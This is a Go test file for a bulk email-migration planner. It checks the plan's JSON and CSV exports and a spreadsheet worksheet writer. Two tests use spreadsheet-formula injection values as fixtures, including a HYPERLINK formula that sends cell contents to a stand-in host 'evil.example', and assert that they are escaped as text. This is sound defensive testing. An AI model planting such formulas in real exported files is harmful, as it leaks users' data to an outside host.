package bulk

import (
	"bytes"
	"strings"
	"testing"
)

func TestBulkJSON(t *testing.T) {
	p := planBulk(t, bulkAcme(), SetupSamlScim, bulkRows(
		"bob@acme.com", "bob@newco.com",
		"cat@acme.com", "cat@newco.com",
		"nobody@acme.com", "nobody@acme-labs.com",
	))
	got, err := p.JSON()
	if err != nil {
		t.Fatal(err)
	}
	want := `{
  "setup": "saml-scim",
  "prerequisites": [
    {
      "code": "domain-unclaimed",
      "domain": "acme-labs.com"
    },
    {
      "code": "target-emails-taken",
      "domain": "newco.com"
    }
  ],
  "rows": [
    {
      "line": 2,
      "currentEmail": "bob@acme.com",
      "targetEmail": "bob@newco.com",
      "accountId": "a-bob",
      "status": "ready",
      "holder": null,
      "path": [
        "idp-saml-attribute",
        "idp-scim-attribute"
      ],
      "flags": []
    },
    {
      "line": 3,
      "currentEmail": "cat@acme.com",
      "targetEmail": "cat@newco.com",
      "accountId": "a-cat",
      "status": "conflict",
      "holder": {
        "accountId": "h-cat",
        "email": "Cat@NewCo.com",
        "name": "Cat (new)",
        "productAccess": [
          "jira-software",
          "confluence"
        ],
        "provisioned": true
      },
      "path": [
        "set-email"
      ],
      "flags": [
        {
          "code": "holder-product-access",
          "detail": "Cat (new) (Cat@NewCo.com), which holds the target, has product access (jira-software, confluence): accounts cannot be merged: if it is moved aside, its work stays with it under the placeholder."
        }
      ]
    },
    {
      "line": 4,
      "currentEmail": "nobody@acme.com",
      "targetEmail": "nobody@acme-labs.com",
      "accountId": null,
      "status": "no-account",
      "holder": null,
      "path": [],
      "flags": []
    }
  ],
  "summary": {
    "conflict": 1,
    "no-account": 1,
    "ready": 1
  }
}`
	if string(got) != want {
		t.Errorf("JSON:\n%s\nwant:\n%s", got, want)
	}
}

func TestBulkJSONEmptyPlan(t *testing.T) {
	got, err := (&Plan{Setup: SetupNone}).JSON()
	if err != nil {
		t.Fatal(err)
	}
	want := "{\n  \"setup\": \"none\",\n  \"prerequisites\": [],\n  \"rows\": [],\n  \"summary\": {}\n}"
	if string(got) != want {
		t.Errorf("JSON %s", got)
	}
}

func TestBulkCSV(t *testing.T) {
	p := planBulk(t, bulkAcme(), SetupSamlJit, bulkRows(
		"ann@acme.com", "ann@newco.com",
		"cat@acme.com", "cat@newco.com",
		"not-an-email", "x@newco.com",
	))
	p.Rows[1].Holder.Name = `Cat "the new", Jr.` // quoting survives
	var buf bytes.Buffer
	if err := p.CSV(&buf); err != nil {
		t.Fatal(err)
	}
	want := `line,current_email,target_email,account_id,status,holder_account_id,holder_email,holder_name,holder_product_access,holder_provisioned,path
2,ann@acme.com,ann@newco.com,a-ann,ready,,,,,,set-email;idp-saml-attribute
3,cat@acme.com,cat@newco.com,a-cat,conflict,h-cat,Cat@NewCo.com,"Cat ""the new"", Jr.",jira-software;confluence,true,set-email;idp-saml-attribute
4,not-an-email,x@newco.com,,invalid,,,,,,
`
	if buf.String() != want {
		t.Errorf("CSV:\n%s\nwant:\n%s", buf.String(), want)
	}
}

// A target list or an org can carry a cell a spreadsheet would run: the
// plan's CSV must hand it back as text.
func TestBulkCSVEscapesFormulas(t *testing.T) {
	p := planBulk(t, bulkAcme(), SetupNone, bulkRows(
		`=HYPERLINK("http://evil.example/?"&A1,"x")`, "ann@newco.com",
		"cat@acme.com", "cat@newco.com",
		"ann@acme.com", "@SUM(1+1)",
	))
	p.Rows[1].Holder.Name = "-2+3"
	p.Rows[1].Holder.ProductAccess = []string{"+jira", "confluence"}
	var buf bytes.Buffer
	if err := p.CSV(&buf); err != nil {
		t.Fatal(err)
	}
	want := `line,current_email,target_email,account_id,status,holder_account_id,holder_email,holder_name,holder_product_access,holder_provisioned,path
2,"'=HYPERLINK(""http://evil.example/?""&A1,""x"")",ann@newco.com,,invalid,,,,,,
3,cat@acme.com,cat@newco.com,a-cat,conflict,h-cat,Cat@NewCo.com,'-2+3,'+jira;confluence,true,set-email
4,ann@acme.com,'@SUM(1+1),a-ann,invalid,,,,,,set-email
`
	if buf.String() != want {
		t.Errorf("CSV:\n%s\nwant:\n%s", buf.String(), want)
	}
}

// The worksheet is opened in a spreadsheet: an org's name that starts a
// formula is written as text.
func TestWorksheetEscapesFormulas(t *testing.T) {
	var buf bytes.Buffer
	lines := []WorksheetLine{{Line: 2, AccountID: "a-1", Name: `=HYPERLINK("http://evil.example")`, CurrentEmail: "a@acme.com", TargetEmail: "a@acme.io",
		Idp: "entra", Attribute: "mail", OldValue: "a@acme.com", NewValue: "a@acme.io"}}
	if err := WriteWorksheet(&buf, lines); err != nil {
		t.Fatal(err)
	}
	if !strings.Contains(buf.String(), `"'=HYPERLINK(""http://evil.example"")"`) {
		t.Errorf("worksheet:\n%s", buf.String())
	}
}
